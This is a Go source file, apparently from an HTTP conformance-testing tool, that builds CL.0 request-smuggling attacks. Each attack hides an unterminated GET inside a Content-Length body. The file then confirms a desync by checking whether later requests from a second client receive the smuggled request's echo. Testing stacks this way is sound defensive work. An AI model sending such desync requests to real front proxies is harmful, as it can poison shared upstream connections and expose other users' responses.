package desync

import (
	"bytes"
	"context"
	"fmt"
	"time"

	"github.com/conform-wsgi/conform/wire"
)

// Attack is one way to smuggle the start of a request past a front: Request is what the
// attacker sends; it carries, where the server behind a lenient parser would start a new
// request, the beginning of one that asks for the probe's echo with a query only it has.
// That smuggled request has no end of its own: a server that reads it waits, and the next
// request the front forwards on that upstream connection completes it.
type Attack struct {
	Name string // e.g. "CL.0"
	// Misread is the server's parsing error the attack needs, in words.
	Misread string
	Request []byte
	// marker is in the smuggled request's query alone: a response carrying it answers the
	// smuggled request. host is the Host the requests name.
	marker, host string
}

// Attacks lists the attacks conform tries against a stack, for a front reached as host;
// token makes their markers unique to this run.
func Attacks(host, token string) []Attack {
	attack := func(name, misread, method, query string) Attack {
		marker := "smuggled-" + name + "-" + token
		// No Host and no end: the victim's request line and fields complete it.
		body := "GET /__conform__/echo?" + marker + " HTTP/1.1\r\nX-Smuggled-Prefix: "
		return Attack{Name: name, Misread: misread, marker: marker, host: host,
			Request: fmt.Appendf(nil, "%s /__conform__/echo?%sattacker-%s-%s HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n%s",
				method, query, name, token, host, len(body), body)}
	}
	return []Attack{
		attack("CL.0", "a GET's Content-Length body read as the next request", "GET", ""),
		// The app does not read the body: the server must drain it or close.
		attack("CL.0-unread-GET", "a GET's body the app did not read left on the connection", "GET", "read=none&"),
		attack("CL.0-unread-POST", "a POST's body the app did not read left on the connection", "POST", "read=none&"),
	}
}

// Confirmation is what one attack through a front came to.
type Confirmation struct {
	Attack string
	// Confirmed: a second client's request got the response meant for the smuggled one.
	Confirmed bool
	Why       string
	// Sent is the attacker's request; Attacker is the raw answer it got; Victim the raw
	// answers the victims got, connection after connection.
	Sent, Attacker, Victim []byte
}

// probeMark is in every answer of the probe's echo, and in nothing a front says itself.
const probeMark = `conform-probe`

// victims is how many victim connections follow an attack, each with two requests: a
// front may keep a client's first request off a reused upstream connection (HAProxy's
// http-reuse safe) and pick among several idle ones.
const victims = 3

// Confirm sends the attack to the front, best a fresh one (with no idle upstream
// connections besides the one the attack leaves poisoned), then, as a second client, ordinary requests for
// the echo: if one of them is answered with the smuggled request's echo, the desync is
// proven the way an attacker exploits it. Every exchange is bounded by ctx and by wire's
// time-outs. An error means the front could not be reached at all.
func Confirm(ctx context.Context, front string, a Attack) (Confirmation, error) {
	c := Confirmation{Attack: a.Name, Sent: a.Request}
	x, err := wire.Do(ctx, front, wire.Script{Steps: []wire.Step{{Data: a.Request}}, Responses: 1,
		IdleTimeout: 3 * time.Second, Deadline: 5 * time.Second})
	if err != nil {
		return c, fmt.Errorf("sending the %s attack to %s: %w", a.Name, front, err)
	}
	c.Attacker = x.Raw
	if len(x.Responses) == 1 && !bytes.Contains(x.Responses[0].Body, []byte(probeMark)) {
		c.Why = fmt.Sprintf("the front answered the attack itself (%d), so it never reached the server", x.Responses[0].Status)
		return c, nil
	}
	for i := 0; i < victims; i++ {
		var steps []wire.Step
		for j := 0; j < 2; j++ {
			req := fmt.Sprintf("GET /__conform__/echo?victim-%d-%d HTTP/1.1\r\nHost: %s\r\n\r\n", i, j, a.host)
			steps = append(steps, wire.Step{Data: []byte(req), AwaitResponse: 3 * time.Second})
		}
		steps[0].AwaitResponse = 0
		v, err := wire.Do(ctx, front, wire.Script{Steps: steps, Responses: 2,
			IdleTimeout: 3 * time.Second, Deadline: 8 * time.Second})
		if err != nil {
			return c, fmt.Errorf("sending a victim's requests to %s: %w", front, err)
		}
		c.Victim = append(c.Victim, v.Raw...)
		for _, r := range v.Responses {
			if bytes.Contains(r.Body, []byte(a.marker)) {
				c.Confirmed = true
				c.Why = fmt.Sprintf("a second client's GET was answered with the echo of the request smuggled in the attacker's (%s)", a.Misread)
				return c, nil
			}
		}
	}
	c.Why = fmt.Sprintf("no second client's request got the smuggled request's answer (the server would have to take %s)", a.Misread)
	return c, nil
}
